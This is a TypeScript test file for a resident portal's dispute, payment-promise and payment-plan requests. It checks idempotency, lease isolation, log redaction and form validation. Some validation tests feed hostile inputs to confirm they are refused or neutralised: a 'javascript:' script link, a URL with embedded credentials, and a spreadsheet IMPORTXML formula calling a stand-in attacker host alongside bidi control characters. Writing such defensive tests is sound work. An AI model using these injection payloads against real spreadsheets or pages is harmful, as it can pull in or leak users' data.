/** Disputes, promises and plan requests as the page posts them: once each, on the lease of the link, with all that follows. */
import { requestsView } from '../../../src/api/resident/requests-view';
import { bookOf, tabOf, verdictOf, type World } from '../../worlds';
import { lateHouse } from '../desk-acts-world';
import { freshRequest, oneLease, pageApp, posted, requestsOf } from './requests-world';

const late = lateHouse();
const FEE = 'fee:rent:L-1:2026-11';
const WORDS = 'I paid on the third, my bank shows it.';

const pauses = (world: World) =>
  bookOf(world)
    .entries.filter((entry) => entry.kind === 'pause')
    .map((entry) => [entry.lease, entry.type, entry.by]);
const taskFor = (world: World, title: RegExp) => tabOf(world, 'Tasks').filter((row) => title.test(row.Task ?? ''));

describe('a dispute', () => {
  const world = late.clone();
  const form = { charge: FEE, text: WORDS, file: 'https://files.example.com/slip.pdf' };

  it('writes its row, rests the line, and asks the manager', () => {
    expect(posted(world, 'L-1', 'dispute', form, 'form-a')).toEqual({ done: true, says: 'disputeMade' });
    expect(requestsOf(world, 'L-1')).toMatchObject([
      { Kind: 'dispute', About: FEE, Text: WORDS, File: form.file, State: 'open', By: 'l-1@example.com' },
    ]);
    expect(pauses(world)).toEqual([['L-1', 'dispute', 'resident l…@example.com']]);
    expect(taskFor(world, /Answer the dispute/)).toMatchObject([{ 'Lease ID': 'L-1', State: 'open' }]);
    expect(
      bookOf(world).outbox.filter(({ channel, key }) => channel === 'slack' && key.includes('request:')),
    ).toHaveLength(1);
    expect(verdictOf(world)).toMatchObject({ ok: true });
  });

  it('is the same on a second click, and never a second row', () => {
    expect(posted(world, 'L-1', 'dispute', form, 'form-a')).toEqual({ done: true, says: 'disputeMade' });
    expect(requestsOf(world, 'L-1')).toHaveLength(1);
  });

  it('stands in the Log in the name of the resident, without the whole address', () => {
    const lines = bookOf(world).log.filter(({ kind }) => kind === 'request');
    expect(lines).toEqual([expect.objectContaining({ who: 'resident l…@example.com', leaseId: 'L-1' })]);
    expect(JSON.stringify(bookOf(world).log)).not.toContain('resident l-1@example.com');
  });

  it('is refused a second time while it waits', () => {
    expect(posted(world, 'L-1', 'dispute', form)).toMatchObject({ done: false, says: 'disputeAlready' });
  });

  it('is withdrawn by the resident, and the line counts again', () => {
    const [row] = requestsOf(world, 'L-1');
    const gone = { dispute: row?.Key ?? '' };
    expect(posted(world, 'L-1', 'disputeWithdraw', gone, 'form-b')).toEqual({ done: true, says: 'disputeWithdrawn' });
    expect(posted(world, 'L-1', 'disputeWithdraw', gone, 'form-b')).toEqual({ done: true, says: 'disputeWithdrawn' });
    expect(requestsOf(world, 'L-1')).toMatchObject([{ State: 'withdrawn' }]);
    expect(pauses(world)).toHaveLength(2);
    expect(taskFor(world, /Answer the dispute/)).toMatchObject([{ State: 'done' }]);
    expect(posted(world, 'L-1', 'disputeWithdraw', gone)).toMatchObject({ done: false, says: 'disputeOver' });
    expect(verdictOf(world)).toMatchObject({ ok: true });
  });
});

describe('what a form may hold', () => {
  const refusal = (fields: Readonly<Record<string, string>>) => {
    const world = late.clone();
    const outcome = posted(world, 'L-1', 'dispute', { charge: FEE, text: WORDS, file: '', ...fields });
    expect(requestsOf(world, 'L-1')).toEqual([]);
    return outcome;
  };

  it.each([
    ['too short a text', { text: 'wrong' }, 'textLength'],
    ['too long a text', { text: 'x'.repeat(1001) }, 'textLength'],
    ['a file without https', { file: 'http://files.example.com/a' }, 'fileLink'],
    ['a file with a password', { file: 'https://me:secret@files.example.com/a' }, 'fileLink'],
    ['a script for a file', { file: 'javascript:alert(1)' }, 'fileLink'],
    ['too long a file', { file: `https://files.example.com/${'a'.repeat(500)}` }, 'fileLink'],
    ['a line of another lease', { charge: 'rent:L-2:2026-11' }, 'disputeNoLine'],
    ['no line', { charge: '' }, 'disputeNoLine'],
  ])('refuses %s', (_, fields, says) => {
    expect(refusal(fields)).toMatchObject({ done: false, says });
  });

  it('refuses a form without its id', () => {
    expect(posted(late.clone(), 'L-1', 'dispute', { charge: FEE, text: WORDS }, '')).toMatchObject({
      says: 'formIncomplete',
    });
  });

  it('keeps a formula and marks that turn text as plain text', () => {
    const world = late.clone();
    const text = '=IMPORTXML("https://evil.example","//a")\u202e\u0007 is wrong';
    posted(world, 'L-1', 'dispute', { charge: FEE, text, file: '' });
    expect(requestsOf(world, 'L-1')[0]?.Text).toBe('=IMPORTXML("https://evil.example","//a") is wrong');
  });
});

it('lets three lines wait at the same time', () => {
  const world = late.clone();
  const lines = ['rent:L-1:2026-11', FEE, 'deposit:L-1'];
  for (const charge of lines)
    expect(posted(world, 'L-1', 'dispute', { charge, text: WORDS, file: '' })).toMatchObject({ done: true });
  expect(requestsOf(world, 'L-1')).toHaveLength(3);
  expect(requestsView(oneLease(pageApp(world), 'L-1')).map(({ state }) => state)).toEqual(['open', 'open', 'open']);
});

it('never sees or ends the request of another lease', () => {
  const world = late.clone();
  posted(world, 'L-1', 'dispute', { charge: FEE, text: WORDS, file: '' });
  const [row] = requestsOf(world, 'L-1');
  expect(posted(world, 'L-2', 'disputeWithdraw', { dispute: row?.Key ?? '' })).toMatchObject({ done: false });
  expect(requestsView(oneLease(pageApp(world), 'L-2'))).toEqual([]);
  expect(requestsOf(world, 'L-1')).toMatchObject([{ State: 'open' }]);
});

it('takes a request of another link under the same id as another one', () => {
  const world = late.clone();
  const request = freshRequest();
  const form = { text: 'Could I pay this in three parts?', perMonth: '300' };
  expect(posted(world, 'L-1', 'planAsk', form, request)).toEqual({ done: true, says: 'planAsked' });
  expect(posted(world, 'L-2', 'planAsk', form, request)).toEqual({ done: true, says: 'planAsked' });
  expect([requestsOf(world, 'L-1').length, requestsOf(world, 'L-2').length]).toEqual([1, 1]);
});

describe('a promise', () => {
  const world = late.clone();

  it('is taken until a day within ten', () => {
    const far = posted(world, 'L-1', 'promise', { until: '2026-11-18', text: '' });
    expect(far).toEqual({ done: false, says: 'promiseDay', with: { from: '2026-11-07', until: '2026-11-17' } });
    expect(posted(world, 'L-1', 'promise', { until: '2026-11-06', text: '' })).toMatchObject({ says: 'promiseDay' });
    expect(posted(world, 'L-1', 'promise', { until: 'soon', text: '' })).toMatchObject({ says: 'promiseDay' });
    expect(posted(world, 'L-1', 'promise', { until: '2026-11-17', text: '' })).toEqual({
      done: true,
      says: 'promiseMade',
      with: { until: '2026-11-17' },
    });
    expect(requestsOf(world, 'L-1')).toMatchObject([{ Kind: 'promise', Until: '2026-11-17', State: 'open' }]);
    expect(pauses(world)).toEqual([['L-1', 'promise', 'resident l…@example.com']]);
    expect(verdictOf(world)).toMatchObject({ ok: true });
  });

  it('is taken one at a time', () => {
    expect(posted(world, 'L-1', 'promise', { until: '2026-11-10', text: '' })).toMatchObject({
      says: 'promiseAlready',
    });
  });
});

describe('a wish for a plan', () => {
  it('waits for the manager with what the resident offers', () => {
    const world = late.clone();
    const form = { text: 'Could I pay this in three parts?', perMonth: '300' };
    expect(posted(world, 'L-1', 'planAsk', form)).toEqual({ done: true, says: 'planAsked' });
    expect(requestsOf(world, 'L-1')[0]?.Text).toBe('Could I pay this in three parts?\n(300.00 USD / month)');
    // The page says the amount in the language of its reader.
    expect(requestsView(oneLease(pageApp(world), 'L-1'))).toMatchObject([
      { kind: 'plan', text: 'Could I pay this in three parts?', perMonthCents: 30_000 },
    ]);
    expect(taskFor(world, /payment plan/)).toMatchObject([{ State: 'open' }]);
    expect(posted(world, 'L-1', 'planAsk', form)).toMatchObject({ says: 'planAlready' });
    expect(posted(world, 'L-1', 'planAsk', { ...form, perMonth: 'much' })).toMatchObject({ says: 'planAmount' });
  });
});
